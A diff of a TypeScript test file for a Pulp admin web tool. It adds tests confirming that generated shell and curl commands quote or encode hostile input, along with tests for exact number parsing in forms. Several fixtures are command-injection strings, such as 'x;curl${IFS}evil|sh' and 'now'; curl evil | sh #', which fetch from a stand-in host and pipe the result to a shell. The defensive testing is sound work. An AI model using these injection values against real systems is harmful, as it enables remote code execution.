@@ -1,6 +1,7 @@
-import { describe, expect, test } from "vitest";
-import { adminOf } from "../src/model/actions";
+import { describe, expect, test, vi } from "vitest";
+import { adminOf, adminOfTask, curlOfTask } from "../src/model/actions";
 import { addressOf, sentence } from "../src/model/api";
+import { argumentsOf, exactJson, type Field } from "../src/model/form";
 import { asCsv, differences, type Entry, phasesOf } from "../src/model/history";
 import { fractionOf, nameOf } from "../src/model/tasks";
 import { ago, duration, growing } from "../src/model/times";
@@ -94,5 +95,40 @@ describe("a filter as options of pulp-admin", () => {
     [[], "NOT failed", null],
     [[], "name=sync OR name=publish", null],
     [[], 'name="remove orphans"', null],
+    [[], "name=x;curl${IFS}evil|sh", "--all --operation 'x;curl${IFS}evil|sh'"],
+    [[], "state=`id`", "--state '`id`'"],
   ])("%s %s", (states, q, options) => expect(adminOf({ states, q })).toBe(options));
+});
+
+test("nothing that a link brings along runs in the shell into which a command is copied", () => {
+  vi.stubGlobal("location", { origin: "https://pulp.example.org" });
+  const at = "now'; curl evil | sh #";
+  expect(adminOfTask("5e1f", at)).toBe("pulp-admin tasks details --task-id 5e1f --as-of 'now'\\''; curl evil | sh #'");
+  expect(curlOfTask("/tasks/5e1f/", at)).toBe(
+    "curl --user NAME 'https://pulp.example.org/tasks/5e1f/?as_of=now%27%3B+curl+evil+%7C+sh+%23'",
+  );
+  expect(adminOfTask("5e1f", "3:17")).toBe("pulp-admin tasks details --task-id 5e1f --as-of 3:17");
+});
+
+describe("numbers in forms", () => {
+  const field = (kind: Field["kind"]): Field => ({ name: "n", kind, choices: [], required: false, hint: "", placeholder: "" });
+  const given = (kind: Field["kind"], text: string, before = {}) => argumentsOf([field(kind)], { n: text }, before);
+
+  test.each(["7", "-7", "2.5", "1e300", "9007199254740991"])("%s is taken", (text) => {
+    expect(given("number", text)).toEqual({ n: Number(text) });
+    expect(given("json", `[${text}]`)).toEqual({ n: [Number(text)] });
+  });
+
+  test.each(["9007199254740993", "123456789012345678901", "1e999"])("%s, which a browser would change, is refused", (text) => {
+    expect(() => given("number", text)).toThrow(`n: a browser cannot hold ${text} without changing it`);
+    expect(() => given("json", `{"a": [${text}]}`)).toThrow("without changing it");
+  });
+
+  test("digits within a text are no number", () => {
+    expect(exactJson("n", '{"id": "9007199254740993", "q": "\\"1e999"}')).toEqual({ id: "9007199254740993", q: '"1e999' });
+  });
+
+  test("what was left as it was before is the same", () => {
+    expect(given("number", "9007199254740992", { n: 2 ** 53 })).toEqual({ n: 2 ** 53 });
+  });
 });
